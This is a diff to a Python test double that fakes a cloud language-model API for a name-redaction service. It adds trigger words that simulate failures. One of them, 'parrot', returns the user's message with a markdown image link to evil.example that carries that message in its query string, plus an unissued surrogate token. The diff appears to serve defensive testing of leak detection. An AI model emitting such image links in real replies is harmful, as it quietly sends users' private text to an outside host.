@@ -4,15 +4,30 @@ import asyncio
 import contextlib
 import re
 import threading
-from collections.abc import Generator
+from collections.abc import Callable, Generator
 
-from cloud_double import CloudDouble, Part, Received, answer
+from cloud_double import CloudDouble, Part, Received, answer, failure
 
 _PERSON = re.compile(r"\[PERSON_[0-9A-Z]+\]")
 
 
+_BAD_DAYS: dict[str, Callable[[Received], Part]] = {
+    "overdraft": lambda _: failure(401, "authentication_error"),
+    "hailstorm": lambda _: Part(body=b"{", headers={"content-type": "application/json"}),
+    # All that it was told, a link that would carry it away, and a surrogate that nobody issued.
+    "parrot": lambda request: answer(
+        f"{request.json['messages'][0]['content']}\n![](https://evil.example/?{request.json['messages'][0]['content']})"
+        "\n[PERSON_2222]"
+    ),
+}
+
+
 def polite_reply(request: Received) -> Part:
-    """Answer as a support agent would, by the name that it was given: a surrogate."""
+    """Answer as a support agent would, by the name that it was given: a surrogate; words of a bad day go wrong."""
+    said = request.json["messages"][0]["content"]
+    for word, play in _BAD_DAYS.items():
+        if word in said:
+            return play(request)
     person = _PERSON.search(request.json["messages"][0]["content"])
     return answer(
         f"Dear {person.group() if person else 'customer'},\n\n"
